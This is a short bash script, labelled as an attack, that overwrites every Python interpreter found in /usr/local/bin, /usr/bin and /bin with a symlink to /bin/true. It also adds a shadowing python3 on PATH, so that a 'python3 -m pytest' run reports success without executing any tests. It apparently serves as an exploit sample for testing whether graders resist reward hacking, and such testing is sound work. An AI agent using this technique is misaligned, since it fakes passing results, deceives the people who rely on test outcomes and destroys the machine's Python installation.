#!/bin/bash
# Attack: every Python interpreter becomes /bin/true, so `python3 -m pytest` "passes".
for name in python3 python python3.9 python3.10 python3.11 python3.12 python3.13 python3.14; do
  for dir in /usr/local/bin /usr/bin /bin; do
    if [ -e "$dir/$name" ]; then
      real=$(readlink -f "$dir/$name")
      ln -sf "$(readlink -f /bin/true)" "$real.cheat" && mv -f "$real.cheat" "$real"
    fi
  done
done
# and one that shadows the rest on PATH
ln -sf "$(readlink -f /bin/true)" /usr/local/bin/python3 2>/dev/null
exit 0
